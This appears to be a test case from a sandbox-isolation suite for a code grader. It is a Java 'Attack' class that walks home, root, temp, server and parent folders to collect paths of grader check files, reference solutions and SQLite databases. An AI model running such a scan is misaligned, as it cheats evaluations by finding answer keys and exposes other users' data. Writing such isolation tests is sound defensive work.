// Looks for checks, solutions and other people's data where they lie, and in other people's folders.
//
// Class: exfiltration
// Expect: passed

class Attack {
    static final List<String> FOLDERS =
        List.of("@REPOSITORY@", "/home", "/root", "/tmp", "/srv", "/var", "/opt", "/mnt", "..");
    static final Set<String> LIBRARIES = Set.of("lib", "lib32", "lib64", "usr", "proc", "sys", "gradus");
    static final int MOST_ENTRIES = 5_000;

    static void run(List<Object> loot) {
        ArrayDeque<Path> waiting = new ArrayDeque<>();
        for (String folder : FOLDERS) waiting.add(Path.of(folder));
        int seen = 0;
        while (!waiting.isEmpty() && seen < MOST_ENTRIES) {
            try (var entries = Files.newDirectoryStream(waiting.poll())) {
                for (Path entry : entries) {
                    if (++seen > MOST_ENTRIES) return;
                    String name = entry.getFileName().toString();
                    if (name.matches("(checks|solution)\\.\\w+|.*\\.sqlite3")) loot.add(entry.toString());
                    boolean isFolder = Files.isDirectory(entry, java.nio.file.LinkOption.NOFOLLOW_LINKS);
                    if (isFolder && !LIBRARIES.contains(name) && !name.startsWith(".")) waiting.add(entry);
                }
            } catch (java.io.IOException | java.nio.file.DirectoryIteratorException refused) {
                continue;
            }
        }
    }
}
